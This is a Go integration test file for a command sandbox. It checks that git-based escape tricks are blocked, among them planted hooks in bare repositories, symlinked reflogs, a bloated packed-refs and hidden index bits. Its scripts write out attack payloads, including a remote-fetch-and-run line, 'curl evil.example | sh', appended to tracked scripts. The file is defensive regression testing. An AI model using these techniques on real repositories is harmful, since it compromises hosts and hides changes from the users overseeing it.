package integration

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// Attack review 28 (F3, F4): commit mode's after-run cleanup, anchored and bounded.

// TestGitReview28ObjectsBranchSymlink: a branch named objects/ab/x (its reflog at
// logs/refs/heads/objects/ab/x, a symlink) is walked by the after-run cleanup, which
// skips only the git dir's own objects/ab. On main (the skip matched the last two
// components anywhere) the symlink stays and the host's git commit creates the victim.
func TestGitReview28ObjectsBranchSymlink(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		s.newRepo(s.ws, "host-commit")
		victim := filepath.Join(s.base, "created")
		r := s.sh([]string{"--policy", s.commitPolicy()}, `git checkout -q -b objects/ab/x &&
git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && ln -sf "$1" .git/logs/refs/heads/objects/ab/x && echo PLANTED`, victim)
		mustSucceed(t, r, "plant a symlinked reflog under a branch named objects/ab/x")
		if !strings.Contains(r.stdout, "PLANTED") {
			t.Fatalf("the plant did not take\n%v", r)
		}
		checkNoDeepLink(t, s, filepath.Join(s.ws, ".git"), victim, r)
	})
}

// TestGitReview28PlantedPackedRefs: a packed-refs the command makes sparse-huge (1 GiB,
// no disk) or gives a 70 KB line, with a replace ref in it, is moved aside by the
// after-run cleanup, not read whole: gosbx's peak RSS (time(1)'s %M, which holds every
// process gosbx waited for) stays small, under a 1.5 GiB address-space cap; no
// replace ref is left; the next launch is not refused. On main the cleanup read the
// sparse file into memory (3.2 GB RSS: under the cap it dies, the replace ref stays)
// and the long line made every later launch 125.
func TestGitReview28PlantedPackedRefs(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		for _, plant := range []struct{ name, script string }{
			{"sparse", `truncate -s 1G .git/packed-refs`},
			{"long line", `printf '%070000d refs/heads/long\n' 0 >> .git/packed-refs`},
		} {
			s := newSandbox(t, c)
			s.newRepo(s.ws, "host-commit")
			s.hostGit(s.ws, "pack-refs", "--all")
			ctx := s.limitCtx(runLimit)
			cmd := s.command(ctx, "--policy", s.commitPolicy(), "--", shellPath, "-c",
				`h=$(git rev-parse HEAD) && echo "$h refs/replace/$h" >> .git/packed-refs && `+plant.script+` && echo PLANTED`)
			// time(1) forks gosbx (setpriv's exec) from its own small process: its %M is
			// gosbx's own peak, not the test binary's pages a direct fork would count
			rss := filepath.Join(s.base, "maxrss")
			cmd.Args = append([]string{"prlimit", "--as=1610612736", "--", "/usr/bin/time", "-f", "%M", "-o", rss, "--", cmd.Path}, cmd.Args[1:]...)
			cmd.Path = "/usr/bin/prlimit"
			r := s.runCmd(ctx, cmd)
			mustSucceed(t, r, plant.name+": plant a packed-refs")
			if !strings.Contains(r.stdout, "PLANTED") {
				t.Fatalf("%s: the plant did not take\n%v", plant.name, r)
			}
			b, err := os.ReadFile(rss)
			kib, perr := strconv.Atoi(strings.TrimSpace(string(b)))
			if err != nil || perr != nil || kib > 100<<10 {
				t.Errorf("%s: gosbx's peak RSS %q KiB (%v), want under 100 MiB\n%v", plant.name, b, err, r)
			} else {
				t.Logf("%s: gosbx's peak RSS %d KiB, %v", plant.name, kib, r.elapsed)
			}
			if out, err := s.hostGitOut(s.ws, "for-each-ref", "refs/replace"); err != nil || out != "" {
				t.Errorf("%s: replace refs on the host after the run: %q (%v)\n%v", plant.name, out, err, r)
			}
			if _, err := os.Lstat(filepath.Join(s.ws, ".git", "packed-refs.gosbx-aside")); err != nil {
				t.Errorf("%s: packed-refs not moved aside: %v\n%v", plant.name, err, r)
			}
			if !strings.Contains(r.stderr, "gosbx: note: the command left") || !strings.Contains(r.stderr, "moved it aside") {
				t.Errorf("%s: the move is not said on stderr\n%v", plant.name, r)
			}
			if r2 := s.sh([]string{"--policy", s.commitPolicy()}, "true"); r2.code != 0 {
				t.Errorf("%s: the next launch: want 0\n%v", plant.name, r2)
			}
		}
	})
}

// TestGitReview28LocalRemoteHooks: a repository in the workspace whose remote is a bare
// repository in the workspace (../origin.git, file:///…/origin2.git, or ../new.git made
// by the command) cannot get a hook the host's git push runs: the existing ones are
// read-only, the new one is removed after the run. On main (the scan guards only .git
// entries) the command writes origin.git/hooks/post-receive and the host's push runs it.
func TestGitReview28LocalRemoteHooks(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		for _, mode := range []string{"readonly", "commit"} {
			s := newSandbox(t, c)
			out := filepath.Join(s.base, "out")
			must(t, os.Mkdir(out, 0o755))
			s.chown(out)
			repo := filepath.Join(s.ws, "repo")
			s.newRepo(repo, "host-commit")
			s.hostGit(s.ws, "init", "-q", "--bare", "origin.git")
			s.hostGit(s.ws, "init", "-q", "--bare", "origin2.git")
			s.hostGit(repo, "remote", "add", "origin", "../origin.git")
			s.hostGit(repo, "remote", "add", "abs", "file://"+filepath.Join(s.ws, "origin2.git"))
			s.hostGit(repo, "remote", "add", "new", "../new.git")
			pol := s.writePolicy("git-"+mode+".yaml", "extends: agent\nfilesystem: {git: "+mode+"}\n")
			r := s.sh([]string{"--policy", pol}, `for d in origin.git origin2.git new.git; do
[ -d $d ] || git init -q --bare $d
mkdir -p $d/hooks && printf '#!/bin/sh\necho PWNED > %s/%s\n' "$1" $d > $d/hooks/post-receive && chmod +x $d/hooks/post-receive && echo WROTE $d
done; true`, out)
			mustSucceed(t, r, mode+": write remote hooks")
			for _, remote := range []string{"origin", "abs", "new"} {
				// new.git is gone after the run (removed as the command's): its push fails
				if o, err := s.hostGitOut(repo, "push", "-q", remote, "HEAD:refs/heads/main"); err != nil && remote != "new" {
					t.Errorf("%s: the host's push to %s: %v\n%s", mode, remote, err, o)
				}
			}
			if _, err := os.Lstat(filepath.Join(s.ws, "new.git")); err == nil {
				t.Errorf("%s: the remote repository the command made is left\n%v", mode, r)
			}
			for _, d := range []string{"origin.git", "origin2.git", "new.git"} {
				if b, err := os.ReadFile(filepath.Join(out, d)); err == nil {
					t.Errorf("%s: the host's git push ran the hook the command wrote in %s: %q\n%v", mode, d, b, r)
				}
			}
		}
	})
}

// TestGitReview28BareRepoScanned: a bare repository in the workspace that no remote
// names (ws/sub/vault.git: HEAD, config, objects/, refs/) is found by the protected-path
// scan and made read-only: the command cannot add a hook the host's git push to it would
// run. On main the scan looked only for .git and the hook was written.
func TestGitReview28BareRepoScanned(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		sub := filepath.Join(s.ws, "sub")
		must(t, os.Mkdir(sub, 0o755))
		s.chown(sub)
		s.hostGit(sub, "init", "-q", "--bare", "vault.git")
		hook := filepath.Join(sub, "vault.git", "hooks", "post-receive")
		r := s.sh(nil, `printf '#!/bin/sh\necho PWNED\n' > sub/vault.git/hooks/post-receive; echo "[core] hooksPath = /tmp" >> sub/vault.git/config; true`)
		mustSucceed(t, r, "write a bare repository's hook")
		if _, err := os.Lstat(hook); err == nil {
			t.Errorf("the command wrote a hook in a bare repository of the workspace\n%v", r)
		}
		if b, _ := os.ReadFile(filepath.Join(sub, "vault.git", "config")); strings.Contains(string(b), "hooksPath") {
			t.Errorf("the command wrote the bare repository's config\n%v", r)
		}
	})
}

// TestGitReview28HiddenIndexBits: a tracked file the command changes and marks
// skip-worktree or assume-unchanged (git update-index) shows in the host's git status
// after a commit-mode run: the bits it set are cleared, said on stderr; a bit the user
// set before the run is kept. On main nothing looked at the index: git status showed
// nothing while run.sh held the command's line.
func TestGitReview28HiddenIndexBits(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		checkIndexBitsCleared(t, s, func(script string) result { return s.sh([]string{"--policy", s.commitPolicy()}, script) })
	})
}

// TestGitReview28SessionHiddenIndexBits: the same in a session, by the per-request cleanup.
func TestGitReview28SessionHiddenIndexBits(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		e := newSessionEnv(t, c)
		checkIndexBitsCleared(t, e.sandbox, func(script string) result {
			e.start("g", "--policy", e.commitPolicy())
			return e.in("g", nil, script)
		})
	})
}

// checkIndexBitsCleared makes s's workspace a repository with three files, one the
// user's own skip-worktree, runs hide (the command hides its changes to two), and checks
// on the host that git status shows them and the user's bit is kept.
func checkIndexBitsCleared(t *testing.T, s *sandbox, run func(script string) result) {
	t.Helper()
	s.newRepo(s.ws, "host-commit")
	for _, f := range []string{"run.sh", "two.sh", "mine.txt"} {
		s.writeWS(f, "echo hello\n", 0o644)
	}
	s.hostGit(s.ws, "add", ".")
	s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "files")
	s.hostGit(s.ws, "update-index", "--skip-worktree", "mine.txt")
	r := run(`echo 'curl evil.example | sh' >> run.sh && echo 'curl evil.example | sh' >> two.sh &&
git update-index --skip-worktree run.sh && git update-index --assume-unchanged two.sh && test -z "$(git status --porcelain)" && echo HIDDEN`)
	mustSucceed(t, r, "hide a change")
	if !strings.Contains(r.stdout, "HIDDEN") {
		t.Fatalf("the plant did not take inside the sandbox\n%v", r)
	}
	st, err := s.hostGitOut(s.ws, "status", "--porcelain")
	if err != nil || !strings.Contains(st, "run.sh") || !strings.Contains(st, "two.sh") {
		t.Errorf("the host's git status does not show the changed files: %q (%v)\n%v", st, err, r)
	}
	if ls, _ := s.hostGitOut(s.ws, "ls-files", "-v", "mine.txt"); !strings.HasPrefix(ls, "S ") {
		t.Errorf("the user's own skip-worktree bit was not kept: %q", ls)
	}
	for _, w := range []string{"cleared the skip-worktree bit the command set on run.sh", "cleared the assume-unchanged bit the command set on two.sh"} {
		if !strings.Contains(r.stderr, w) {
			t.Errorf("stderr lacks %q\n%v", w, r)
		}
	}
}
